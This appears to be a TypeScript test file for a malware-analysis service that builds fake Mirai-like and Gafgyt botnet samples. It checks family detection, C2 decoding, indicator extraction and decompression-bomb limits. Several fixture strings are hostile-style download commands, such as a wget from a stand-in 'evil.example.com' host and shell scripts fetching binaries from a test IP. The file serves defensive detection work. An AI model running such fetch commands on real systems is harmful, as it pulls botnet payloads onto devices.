// The whole analysis of one sample, and the worker queue around it: built fake samples only.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { analyseSample, type AnalyserOptions } from './analyse-sample.ts';
import { createAnalysisQueue } from './analysis-queue.ts';
import { compileRules } from './intel/family-rules.ts';
import { loadFamilyRules } from './intel/rule-loader.ts';
import { buildElf } from '../testing/elf-builder.ts';
import { concat, elfWithStrings, gafgytStrings, miraiLikeSample } from '../testing/fake-samples.ts';

const sha = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

async function options(overrides: Partial<AnalyserOptions> = {}): Promise<AnalyserOptions> {
  const loaded = await loadFamilyRules();
  assert.ok(loaded.ok);
  return { rules: compileRules(loaded.rules), yara: null, unpack: false, maxInnerBytes: 1024 * 1024, ...overrides };
}

test('a Mirai-like ARM sample: CPU, family, decoded C2 and a TLSH digest', async () => {
  const sample = miraiLikeSample(0x22, { cnc: 'cnc.example.net', cncPort: 23, report: 'report.example.net', reportPort: 48101 });
  const a = await analyseSample(sha(sample), sample, await options());
  assert.equal(a.file.kind, 'elf');
  assert.ok(a.file.arch !== null);
  assert.ok(a.families.some((f) => f.family === 'mirai'), JSON.stringify(a.families));
  assert.deepEqual(a.mirai?.cnc, { domain: 'cnc.example.net', port: 23 });
  assert.match(a.file.tlsh ?? '', /^T1[0-9A-F]{70}$/);
  assert.equal(a.file.sha256, sha(sample));
});

test('an unknown-key Mirai table is still named mirai by the table decoder', async () => {
  const sample = miraiLikeSample(0x5c, { cnc: '203.0.113.9', cncPort: 1312, report: 'r.example.org', reportPort: 9555 });
  const a = await analyseSample(sha(sample), sample, await options());
  assert.ok(a.families.some((f) => f.family === 'mirai'));
  assert.equal(a.mirai?.key, 0x5c);
});

test('gafgyt strings, indicators and an ELF summary for a MIPS header', async () => {
  const strings = [...gafgytStrings, 'http://198.51.100.7/bins.sh', 'wget http://evil.example.com/x.mips'];
  const sample = concat([buildElf({ bits: 32, endian: 'big', machine: 8 }), elfWithStrings(strings).subarray(64)]);
  const a = await analyseSample(sha(sample), sample, await options());
  assert.equal(a.file.arch, 'mips');
  assert.ok(a.families.some((f) => f.family === 'gafgyt'));
  assert.ok(a.indicators.urls.includes('http://198.51.100.7/bins.sh'));
  assert.ok(a.indicators.ipv4.includes('198.51.100.7'));
});

test('gzip is opened and its content returned for analysis; a gzip bomb stops at the cap', async () => {
  const script = new TextEncoder().encode('#!/bin/sh\nwget http://198.51.100.7/x\n');
  const a = await analyseSample('g', gzipSync(script), await options());
  assert.equal(a.inner?.how, 'gzip');
  assert.equal(a.inner?.sha256, sha(script));
  const bomb = gzipSync(new Uint8Array(50 * 1024 * 1024));
  const b = await analyseSample('b', bomb, await options({ maxInnerBytes: 1024 * 1024 }));
  assert.equal(b.inner, null);
  assert.match(b.file.description, /inflates past 1048576 bytes/);
});

test('the first file of a zip is opened; a zip bomb stops at the cap', async () => {
  const { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } = await import('@zip.js/zip.js');
  const zipOf = async (bytes: Uint8Array): Promise<Uint8Array> => {
    const writer = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false, level: 9 });
    await writer.add('x', new Uint8ArrayReader(bytes));
    return writer.close();
  };
  const script = new TextEncoder().encode('#!/bin/sh\nwget http://198.51.100.7/y\n');
  const a = await analyseSample('z', await zipOf(script), await options());
  assert.equal(a.file.kind, 'zip');
  assert.deepEqual([a.inner?.how, a.inner?.sha256], ['zip', sha(script)]);
  const bomb = await analyseSample('zb', await zipOf(new Uint8Array(32 * 1024 * 1024)), await options({ maxInnerBytes: 1024 * 1024 }));
  assert.equal(bomb.inner, null);
  assert.match(bomb.file.description, /inflates past 1048576 bytes: not analysed inside/);
});

test('garbage and truncated inputs analyse without throwing', async () => {
  const opts = await options();
  for (const bytes of [new Uint8Array(0), Uint8Array.of(0x7f, 0x45, 0x4c, 0x46), new Uint8Array(4096).fill(0xff)]) {
    const a = await analyseSample(sha(bytes), bytes, opts);
    assert.equal(a.file.size, bytes.length);
  }
});

test('the queue analyses in a worker thread, shares one job per hash and refuses when full', async (t) => {
  const queue = createAnalysisQueue({ worker: { rulesDir: null, yaraPath: null, extraYaraRulesDir: null, unpack: false, maxInnerBytes: 1 << 20 }, workers: 1, maxQueued: 2, maxQueuedBytes: 1 << 20 });
  t.after(() => queue.close());
  const sample = miraiLikeSample(0x22, { cnc: 'c.example.net', cncPort: 23, report: 'r.example.net', reportPort: 1 });
  const first = queue.submit(sha(sample), sample);
  assert.ok(first);
  assert.equal(queue.submit(sha(sample), sample), first, 'same hash, same job');
  const fillers = [1, 2, 3].map((i) => {
    const bytes = new Uint8Array(1000).fill(i);
    return queue.submit(sha(bytes), bytes);
  });
  assert.equal(fillers.filter((f) => f === null).length, 1, 'one running, two waiting, the fourth refused');
  const analysis = await first;
  assert.ok(analysis.families.some((f) => f.family === 'mirai'));
  await Promise.all(fillers.filter((f) => f !== null));
  assert.deepEqual(queue.stats(), { queued: 0, running: 0, done: 3, failed: 0, refused: 1 });
});
